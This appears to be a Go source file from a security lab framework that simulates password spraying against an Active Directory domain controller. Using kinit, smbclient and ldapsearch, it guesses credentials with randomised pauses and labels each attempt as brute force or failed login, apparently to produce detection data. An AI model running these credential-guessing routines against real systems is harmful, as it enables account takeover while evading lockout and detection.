package passwordspray

import (
	"context"
	"encoding/json"
	"fmt"
	"strconv"
	"strings"
	"time"

	"tyto/lab"
	"tyto/lab/ad"
	"tyto/lab/label"
)

// byTool guesses with a program that is started for each guess.
func byTool(ctx context.Context, r *lab.Run, s *ad.Station, tool string, guesses []guess) (found []guess, err error) {
	pause, err := strconv.ParseFloat(r.Param("pause"), 64)
	if err != nil {
		return nil, err
	}
	for _, g := range guesses {
		right, err := try(ctx, r, s, tool, g)
		if err != nil {
			return nil, err
		}
		if right {
			found = append(found, g)
		}
		if err := r.Sleep(ctx, time.Duration(pause*min(r.Rand().ExpFloat64(), 4)*float64(time.Second))); err != nil {
			return nil, err
		}
	}
	return found, nil
}

// try makes one guess and tells it.
func try(ctx context.Context, r *lab.Run, s *ad.Station, tool string, g guess) (right bool, err error) {
	c, service := command(r, s, tool, g)
	p, err := s.Start(ctx, c)
	if err != nil {
		return false, err
	}
	err = p.Wait(ctx)
	if lab.Status(err) < 0 {
		return false, err
	}
	sel := lab.Of(p).And(service)
	r.Span(sel, p.Started(), r.Now(), label.StateProbe, g.User)
	r.Label(sel, label.BruteForce)
	if err == nil {
		return true, nil
	}
	r.Label(sel, label.LoginFailed)
	for _, refusal := range []string{"Password incorrect", "Preauthentication failed", "NT_STATUS_LOGON_FAILURE", "Invalid credentials (49)"} {
		if strings.Contains(p.Output(), refusal) {
			return false, nil
		}
	}
	return false, fmt.Errorf("%w, which is no refusal: %s", err, p.Output())
}

// command is the command of one guess, and where it goes.
func command(r *lab.Run, s *ad.Station, tool string, g guess) (lab.Command, lab.Selector) {
	d := s.Domain
	switch tool {
	case "kinit":
		return lab.Command{Args: []string{"kinit", "-c", "/tmp/guess", d.Principal(g.User)}, Stdin: strings.NewReader(g.Password + "\n")}, s.Kerberos()
	case "smbclient":
		args := []string{"smbclient", "//" + d.Name(d.DC) + "/IPC$", "--use-kerberos=off", "-U", d.NetBIOS + `\` + g.User + "%" + g.Password, "-c", "exit"}
		return lab.Command{Args: args}, lab.Service(d.DC, "tcp", 445)
	}
	url, port := "ldap://", 389
	if r.Param("security") == "tls" {
		url, port = "ldaps://", 636
	}
	args := []string{"ldapsearch", "-x", "-H", url + d.Name(d.DC), "-D", strings.ToLower(g.User + "@" + d.Realm), "-w", g.Password, "-b", d.Base, "-s", "base", "dn"}
	return lab.Command{Args: args}, lab.Service(d.DC, "tcp", port)
}

// byProgram guesses with a program in Python, which tells each connection.
func byProgram(ctx context.Context, r *lab.Run, s *ad.Station, tool string, guesses []guess) (found []guess, err error) {
	work, err := json.Marshal(map[string]any{
		"tool": tool, "server": s.Domain.Name(s.Domain.DC), "realm": s.Domain.Realm, "domain": s.Domain.NetBIOS, "guesses": guesses, "pause": r.Param("pause"), "tls": r.Param("security") == "tls",
	})
	if err != nil {
		return nil, err
	}
	c, err := s.Python(program, nil, string(work))
	if err != nil {
		return nil, err
	}
	p, _, err := s.RunAndTell(ctx, c)
	if err != nil {
		return nil, err
	}
	for line := range strings.Lines(p.Output()) {
		var g guess
		if n, _ := fmt.Sscanf(line, "found %s %s", &g.User, &g.Password); n == 2 {
			found = append(found, g)
		}
	}
	return found, nil
}
